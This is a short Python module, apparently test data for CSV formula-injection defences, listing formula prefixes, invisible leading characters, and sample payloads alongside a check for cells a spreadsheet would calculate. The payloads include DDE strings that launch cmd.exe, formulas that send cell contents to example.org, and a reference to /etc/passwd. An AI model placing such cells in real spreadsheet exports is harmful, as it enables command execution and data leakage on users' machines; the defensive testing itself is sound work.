"""What spreadsheets calculate, ask the network for, or hand to other programs."""

from itertools import product

# Each way to begin, of which some spreadsheet is known or said to calculate.
SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "﹫"]
BEFORE = [
    "", " ", "   ", "\t", "\r", "\n", "\r\n", "\x00", "\x0b", "\x0c", "\x1f", "\x7f", "\x85",
    "\u00a0", "\u00ad", "\u1680", "\u200b", "\u200c", "\u200d", "\u200e", "\u202e", "\u2028",
    "\u2029", "\u2060", "\u3000", "\ufeff", "\ufeff ", "\t \u200b",
]  # fmt: skip
TOLD = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    '=HYPERLINK("https://example.org/?"&A1,"x")',
    '=WEBSERVICE("https://example.org/"&A1)',
    '=IMAGE("https://example.org/x.png")',
    '=IMPORTXML("https://example.org/","//a")',
    '=IMPORTDATA("https://example.org/x.csv")',
    "='file:///etc/passwd'#$passwd.A1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=-1+1",
    "={1;2}",
    "=_xlfn.CONCAT(A1)",
    '=1+1";=2+2',
    '=1+1","=2+2',
    "=1+1\n=2+2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "''=1+1",
    "\"=1+1\"",
]  # fmt: skip
# A text that begins with a quotation mark is quoted, so that no reader takes it away.
FORMULAS = list(
    dict.fromkeys([text for text in TOLD if text[0] != '"']
                  + [f"{before}{sign}1+1" for before, sign in product(BEFORE, SIGNS)])
)  # fmt: skip
_DROPPED = "".join(BEFORE) + "\ufeff"


def is_calculated(cell: str) -> bool:
    """Of a cell as a reader of CSV has it: an apostrophe first is a text."""
    return cell.lstrip(_DROPPED)[:1] in {*SIGNS, "\x00"} - {""} or cell[:1] in {"\t", "\r", "\n"}
